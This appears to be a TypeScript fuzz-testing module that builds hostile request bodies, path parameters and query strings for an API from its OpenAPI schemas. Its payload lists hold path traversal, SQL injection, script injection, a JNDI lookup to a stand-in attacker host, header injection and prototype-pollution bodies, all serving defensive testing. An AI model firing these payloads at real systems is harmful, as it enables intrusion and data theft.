// fast-check arbitraries built from the OpenAPI document's JSON Schemas, plus hostile inputs:
// strings, JSON values, request bodies, path parameters and query strings an attacker would send.
import fc from "fast-check";
import type { JsonSchema, Operation } from "./openapi";

/** Strings an attacker would try, by family. */
export const HOSTILE_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\r\nSet-Cookie: x=1",
  "line1\nline2\r\n{\"forged\":true}",
  "\u001b[31mred\u001b[0m",
  "../../../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "/\\evil.example",
  "//evil.example",
  "%00",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "' OR 1=1 --",
  "\"; DROP TABLE users; --",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\u202eevil\u202c",
  "\ud83d\ude00".repeat(20),
  "\ud800",
  "ＡＢＣ",
  "ǅ",
  "İ",
  "arn:aws:iam::*:role/*",
  "arn:aws:iam::111111111111:role/ReadOnly ",
  "*",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "123456789012345678901234567890",
  "0x1F",
  "true",
  "null",
  "undefined",
  "[]",
  "{}",
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
  { weight: 1, arbitrary: fc.nat({ max: 300_000 }).map((n) => "A".repeat(n)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 20 })).map(([a, b]) => a + b) },
);

export const hostileNumber: fc.Arbitrary<number | string> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(-1, 0, 2 ** 31, 2 ** 53 + 1, -(2 ** 53), 1e308, Number.MIN_VALUE, 899, 900, 43200, 43201),
);

/** Any JSON value, with hostile leaves. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 5 }),
    fc.dictionary(fc.oneof(hostileString, fc.constantFrom("__proto__", "constructor", "id", "roleId", "accountId", "kind", "email")), tie("value"), { maxKeys: 5 }),
  ),
})).value;

function regexArbitrary(pattern: string): fc.Arbitrary<string> | undefined {
  try {
    const re = new RegExp(pattern, "u");
    // fast-check understands a subset of regular expressions; prove it can use this one.
    const arb = fc.stringMatching(re);
    fc.sample(arb, 1);
    return arb;
  } catch {
    return undefined;
  }
}

/** Realistic values for properties the schema alone cannot describe (zod refinements such as
 * "a region", "an email"), keyed by property name; mixed in half of the time. */
export type Hints = Record<string, fc.Arbitrary<unknown>>;

export const DEFAULT_HINTS: Hints = {
  email: fc.string({ minLength: 1, maxLength: 12, unit: fc.constantFrom(..."abcdefghijklmnopqrstuvwxyz0123456789.") }).map((s) => `fuzz.${s.replace(/^\.+|\.+$|\.{2,}/g, "x") || "x"}@example.com`),
  region: fc.constantFrom("us-east-1", "eu-west-1", "eu-central-2", "us-gov-west-1", "cn-north-1", "ap-southeast-4"),
  defaultRegion: fc.constantFrom("us-east-1", "eu-west-1", "us-gov-west-1", "cn-north-1"),
  accountId: fc.constantFrom("111111111111", "222222222222", "333333333333", "444444444444"),
  partition: fc.constantFrom("aws", "aws-us-gov", "aws-cn"),
  owner: fc.constantFrom("acme", "octo-org", "a"),
  bucket: fc.constantFrom("my-bucket", "logs.example.com"),
  color: fc.constantFrom("#2563eb", "#ABCDEF"),
};
DEFAULT_HINTS.userEmail = DEFAULT_HINTS.email!;

/** Values that satisfy (most of) a JSON Schema as zod's toJSONSchema writes them. */
export function schemaArbitrary(schema: JsonSchema, root: JsonSchema = schema, depth = 0, hints: Hints = DEFAULT_HINTS): fc.Arbitrary<unknown> {
  if (depth > 8) return fc.constant(null);
  const ref = schema.$ref as string | undefined;
  if (ref?.startsWith("#/")) {
    const target = ref
      .slice(2)
      .split("/")
      .reduce<unknown>((o, k) => (o as Record<string, unknown> | undefined)?.[k], root) as JsonSchema | undefined;
    return target ? schemaArbitrary(target, root, depth + 1, hints) : hostileJson;
  }
  if ("const" in schema) return fc.constant(schema.const);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...(schema.enum as unknown[]));
  for (const key of ["anyOf", "oneOf"] as const) {
    const options = schema[key] as JsonSchema[] | undefined;
    if (options?.length) return fc.oneof(...options.map((s) => schemaArbitrary(s, root, depth + 1, hints)));
  }
  const allOf = schema.allOf as JsonSchema[] | undefined;
  if (allOf?.length) return schemaArbitrary(Object.assign({}, ...allOf) as JsonSchema, root, depth + 1, hints);
  const type = Array.isArray(schema.type) ? (schema.type as string[])[0] : (schema.type as string | undefined);
  switch (type) {
    case "string": {
      if (schema.format === "email") return fc.emailAddress();
      if (schema.format === "date-time") return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
      const min = (schema.minLength as number | undefined) ?? 0;
      const max = Math.min((schema.maxLength as number | undefined) ?? 64, 256);
      const matching = typeof schema.pattern === "string" ? regexArbitrary(schema.pattern) : undefined;
      return matching ?? fc.string({ minLength: min, maxLength: Math.max(min, max) });
    }
    case "integer":
      return fc.integer({ min: (schema.minimum as number | undefined) ?? -1e6, max: (schema.maximum as number | undefined) ?? 1e6 });
    case "number":
      return fc.double({ min: (schema.minimum as number | undefined) ?? -1e6, max: (schema.maximum as number | undefined) ?? 1e6, noNaN: true });
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array": {
      const items = (schema.items as JsonSchema | undefined) ?? {};
      const minLength = (schema.minItems as number | undefined) ?? 0;
      return fc.array(schemaArbitrary(items, root, depth + 1, hints), { minLength, maxLength: Math.max(minLength, Math.min((schema.maxItems as number | undefined) ?? 4, 4)) });
    }
    case "object": {
      const properties = (schema.properties as Record<string, JsonSchema> | undefined) ?? {};
      const required = new Set((schema.required as string[] | undefined) ?? []);
      const record = Object.fromEntries(
        Object.entries(properties).map(([k, s]) => {
          const generated = schemaArbitrary(s, root, depth + 1, hints);
          const hint = hints[k];
          return [k, hint ? fc.oneof(hint, generated) : generated];
        }),
      );
      return fc.record(record, { requiredKeys: Object.keys(properties).filter((k) => required.has(k)) });
    }
    default:
      return hostileJson;
  }
}

/** Replaces one leaf (or the whole value) with something of the wrong kind. */
export function mutated(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(valid, fc.nat(), hostileJson, fc.constantFrom("wrong", "array", "null", "drop", "extra", "proto")).map(([value, pick, replacement, how]) => {
    if (!value || typeof value !== "object" || Array.isArray(value)) return how === "array" ? [value] : replacement;
    const copy = structuredClone(value) as Record<string, unknown>;
    const keys = Object.keys(copy);
    const key = keys.length ? keys[pick % keys.length]! : "x";
    if (how === "wrong") copy[key] = replacement;
    else if (how === "array") copy[key] = [copy[key], copy[key]];
    else if (how === "null") copy[key] = null;
    else if (how === "drop") delete copy[key];
    else if (how === "extra") copy[`${key}_extra`] = replacement;
    else Object.defineProperty(copy, "__proto__", { value: { isAdmin: true, role: "admin" }, enumerable: true, configurable: true, writable: true });
    return copy;
  });
}

/** A request body as bytes on the wire: a JSON value, or raw text that is not plain JSON. */
export type WireBody = { contentType: string | undefined; body: string; kind: string };

/** Request bodies for an operation: valid ones, mutated ones, hostile JSON, and raw tricks
 * (duplicate keys, prototype keys, invalid JSON, huge numbers, wrong content types). */
export function wireBody(valid: fc.Arbitrary<unknown>): fc.Arbitrary<WireBody> {
  const json = (kind: string) => (value: unknown): WireBody => ({ contentType: "application/json", body: JSON.stringify(value) ?? "null", kind });
  const objectText = valid.map((v) => (v && typeof v === "object" && !Array.isArray(v) ? JSON.stringify(v) : "{}"));
  return fc.oneof(
    { weight: 6, arbitrary: valid.map(json("valid")) },
    { weight: 6, arbitrary: mutated(valid).map(json("mutated")) },
    { weight: 3, arbitrary: hostileJson.map(json("hostile")) },
    {
      weight: 2,
      arbitrary: fc.tuple(objectText, hostileJson).map(([text, v]): WireBody => {
        // The same key twice: JSON.parse keeps the last, a naive validator might read the first.
        const first = /^\{"([^"]+)":/.exec(text)?.[1] ?? "id";
        const dup = text === "{}" ? `{"${first}":1,"${first}":${JSON.stringify(v) ?? "null"}}` : `${text.slice(0, -1)},"${first}":${JSON.stringify(v) ?? "null"}}`;
        return { contentType: "application/json", body: dup, kind: "duplicate-keys" };
      }),
    },
    {
      weight: 2,
      arbitrary: objectText.map((text): WireBody => ({
        contentType: "application/json",
        body: `{"__proto__":{"role":"admin","isAdmin":true},"constructor":{"prototype":{"polluted":true}},${text.slice(1)}`.replace(/,\}$/, "}"),
        kind: "prototype-keys",
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        "{",
        "{\"a\":",
        "[1,2",
        "{'single':'quotes'}",
        "{\"a\":1}garbage",
        "\u0000",
        "{\"n\":1e999999}",
        "{\"n\":123456789012345678901234567890123456789012345678901234567890}",
        "{\"s\":\"\\ud800\"}",
        "\ufeff{}",
        "null",
        "[]",
        "\"just a string\"",
        "[" + "[".repeat(5000) + "]".repeat(5000) + "]",
      ).map((body): WireBody => ({ contentType: "application/json", body, kind: "invalid-json" })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(valid, fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/json; charset=utf-16", undefined))
        .map(([v, contentType]): WireBody => ({ contentType, body: JSON.stringify(v) ?? "null", kind: "content-type" })),
    },
  );
}

/** encodeURIComponent that takes any string (a lone surrogate becomes U+FFFD, as a browser sends it). */
export function pct(s: string): string {
  return encodeURIComponent(s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd"));
}

/** Path parameter values, correctly percent-encoded: known ids (to reach deep code), random ids,
 * hostile strings. (Malformed encodings and dot segments: PATH_VECTORS.) */
export function pathParamArbitrary(known: readonly string[]): fc.Arbitrary<string> {
  const ulid = fc.stringMatching(/^[0-7][0-9A-HJKMNP-TV-Z]{25}$/);
  return fc.oneof(
    ...(known.length ? [{ weight: 4, arbitrary: fc.constantFrom(...known) }] : []),
    { weight: 2, arbitrary: ulid },
    { weight: 1, arbitrary: fc.stringMatching(/^\d{12}$/) },
    // At most 4,000 characters encoded, so that with a query the request line stays under Node's
    // 16 KiB limit (past it Node answers 431 itself; see queryArbitrary).
    { weight: 3, arbitrary: hostileString.map((s) => pct(s.slice(0, 3000)).slice(0, 4000).replace(/%[0-9A-Fa-f]?$/, "")).filter((s) => s !== "" && !/^(\.|%2e){1,2}$/i.test(s)) },
    { weight: 1, arbitrary: fc.constantFrom("%00", "a%2Fb", "%25", "%2F%2Fevil.example", "%5Cevil.example") },
  );
}

/** What a path segment can hold that is not a well-formed, percent-encoded value: malformed or
 * over-long UTF-8, lone escapes, encoded surrogates, dot segments. */
export const PATH_VECTORS = ["%ZZ", "%", "%%", "%C0%AE", "%C0%AF", "%E0%A4%A", "%ED%A0%80", "%FF", "%F4%90%80%80", "..", ".", "%2e%2e", "%2E", ".%2e", "..%2f..%2fopenapi.json", "..%5C..%5C", "%u002e", "%252e%252e"];

/** A query string: the documented parameters and random ones, with hostile values. */
export function queryArbitrary(params: Operation["queryParams"]): fc.Arbitrary<string> {
  const names = fc.oneof(...(params.length ? [fc.constantFrom(...params.map((p) => p.name))] : []), fc.constantFrom("format", "cascade", "limit", "cursor", "__proto__"), fc.string({ maxLength: 10 }));
  const value = fc.oneof(
    ...params.map((p) => schemaArbitrary(p.schema).map((v) => String(v))),
    hostileString.map((s) => s.slice(0, 4000)),
  );
  // At most 8,000 characters once encoded: past Node's 16 KiB limit for the request line and
  // headers, its HTTP parser answers 431 before the console sees the request at all.
  return fc.array(fc.tuple(names, value), { maxLength: 5 }).map((pairs) => {
    const query = pairs.map(([k, v]) => `${pct(k)}=${pct(v)}`).join("&").slice(0, 8000).replace(/%[0-9A-Fa-f]?$/, "");
    return query ? `?${query}` : "";
  });
}
